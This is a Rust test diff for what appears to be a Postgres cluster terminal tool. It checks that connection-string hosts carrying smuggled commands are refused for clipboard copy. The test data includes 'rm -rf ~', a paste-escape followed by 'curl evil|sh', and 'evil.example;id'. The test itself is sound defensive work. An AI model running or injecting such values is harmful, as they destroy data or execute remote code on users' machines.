@@ -366,6 +366,70 @@ fn nothing_is_sent_without_a_confirmation() {
     }
 }
 
+/// A `conn_url` host with a newline, ESC, BEL or an end-of-paste sequence never reaches the
+/// clipboard: every connection string holding that member's host is refused with a notice
+/// (and the writer would refuse its bytes too); the others copy exactly as before.
+#[test]
+fn a_hostile_conn_url_host_is_never_copied() {
+    let now = Instant::now();
+    for host in [
+        "10.0.0.2\nrm -rf ~",
+        "10.0.0.2\u{1b}[201~\ncurl evil|sh\n",
+        "10.0.0.2\u{7}",
+        "evil.example;id",
+    ] {
+        let mut a = healthy_live(now);
+        let mut member: serde_json::Value =
+            serde_json::from_slice(&fixture("etcd/member_replica.json")).unwrap();
+        member["conn_url"] = format!("postgres://{host}:24022/postgres").into();
+        a.update(Msg::Dcs(
+            now,
+            DcsEvent::Put(kv("members/pg2", member.to_string().as_bytes())),
+        ));
+        a.update(key('d'));
+        let all = a.model.connection_strings();
+        let mut copied = Vec::new();
+        for (i, c) in all.iter().enumerate() {
+            a.screen.replace_top(View::Dsn(i));
+            let eff = a.update(key('y'));
+            let flash = format!("{:?}", a.screen.flash);
+            if c.text.contains("10.0.0.2") || c.text.contains("evil") {
+                assert!(eff.is_empty(), "{host:?}: {c:?} refused: {eff:?}");
+                assert!(c.refused.is_some(), "{c:?}");
+                assert!(flash.contains("not copied"), "{flash}");
+                assert!(flash.contains("pg2's conn_url"), "{flash}");
+            } else {
+                let [Effect::Copy(t)] = eff.as_slice() else {
+                    panic!("{host:?}: {c:?} copied: {eff:?}")
+                };
+                assert_eq!(t, &c.text);
+                copied.push(t.clone());
+            }
+        }
+        assert_eq!(
+            copied,
+            [
+                "host=127.0.0.1 port=24021",
+                "host=127.0.0.1 port=24021",
+                "host=127.0.0.1 port=24023"
+            ],
+            "{host:?}: the leader's, and pg1's and pg3's own"
+        );
+        for t in &copied {
+            assert!(crate::clip::osc52(t).is_ok(), "{t}");
+        }
+    }
+    // a clean cluster: every string copies, the multi-host ones as before
+    let mut a = healthy_live(now);
+    a.update(key('d'));
+    let all = a.model.connection_strings();
+    assert!(all.iter().all(|c| c.refused.is_none()), "{all:?}");
+    assert_eq!(
+        all[1].text,
+        "postgresql://127.0.0.1:24021,127.0.0.1:24022,127.0.0.1:24023/postgres?target_session_attrs=read-write"
+    );
+}
+
 /// A member whose api_url carries a path, a query, a fragment or userinfo gets no write:
 /// the reload's pre-flight check says why and `y` sends nothing; a clean api_url gets
 /// exactly `POST {scheme://host:port}/reload`.
